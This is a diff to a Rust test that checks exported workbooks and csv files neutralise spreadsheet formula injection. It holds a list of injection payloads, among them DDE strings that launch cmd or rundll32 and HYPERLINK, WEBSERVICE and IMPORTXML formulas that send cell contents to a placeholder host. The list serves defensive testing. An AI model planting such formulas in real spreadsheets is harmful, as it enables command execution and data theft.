@@ -3,54 +3,57 @@
 use domain::roster::Cell;
 use kecha::papers::sheet;
 
+/// How such a text begins.
+const HEADS: [&str; 16] = [
+    "=",
+    "+",
+    "-",
+    "@",
+    "＝",
+    "＋",
+    "－",
+    "＠",
+    "\t=",
+    "\r=",
+    "\n=",
+    " =",
+    "\u{3000}=",
+    "=-",
+    "+-",
+    "@=",
+];
+
+/// And what it goes on with.
+const TAILS: [&str; 20] = [
+    "cmd|' /C calc'!A0",
+    "HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
+    "WEBSERVICE(\"http://x.example\")",
+    "IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
+    "DDE(\"cmd\",\"/C calc\",\"x\")",
+    "SUM(1+1)*cmd|' /C calc'!A0",
+    "1+1",
+    "A1",
+    "rundll32|'URL.dll,OpenURL calc.exe'!A",
+    "INDIRECT(\"A1\")",
+    "\"a\",=1",
+    "1;=1",
+    "|x",
+    "%0A=1",
+    "<b>&amp;",
+    "'=1",
+    "10%",
+    "张三",
+    "\u{200B}1",
+    "EXEC(\"calc\")",
+];
+
 /// Each of some hundred texts that spreadsheet programs were tricked with comes back as that text:
 /// from a workbook as it was, from a csv with a mark before it that keeps it from being a formula.
 #[test]
-#[expect(clippy::too_many_lines, reason = "one story, told in its order")]
 fn no_text_becomes_a_formula() {
-    let heads = [
-        "=",
-        "+",
-        "-",
-        "@",
-        "＝",
-        "＋",
-        "－",
-        "＠",
-        "\t=",
-        "\r=",
-        "\n=",
-        " =",
-        "\u{3000}=",
-        "=-",
-        "+-",
-        "@=",
-    ];
-    let tails = [
-        "cmd|' /C calc'!A0",
-        "HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
-        "WEBSERVICE(\"http://x.example\")",
-        "IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
-        "DDE(\"cmd\",\"/C calc\",\"x\")",
-        "SUM(1+1)*cmd|' /C calc'!A0",
-        "1+1",
-        "A1",
-        "rundll32|'URL.dll,OpenURL calc.exe'!A",
-        "INDIRECT(\"A1\")",
-        "\"a\",=1",
-        "1;=1",
-        "|x",
-        "%0A=1",
-        "<b>&amp;",
-        "'=1",
-        "10%",
-        "张三",
-        "\u{200B}1",
-        "EXEC(\"calc\")",
-    ];
-    let texts: Vec<String> = heads
+    let texts: Vec<String> = HEADS
         .iter()
-        .flat_map(|head| tails.iter().map(move |tail| format!("{head}{tail}")))
+        .flat_map(|head| TAILS.iter().map(move |tail| format!("{head}{tail}")))
         .collect();
     assert!(texts.len() >= 300);
     let mut book = sheet::ListWriter::new(Vec::new(), sheet::Format::Xlsx).expect("begun");
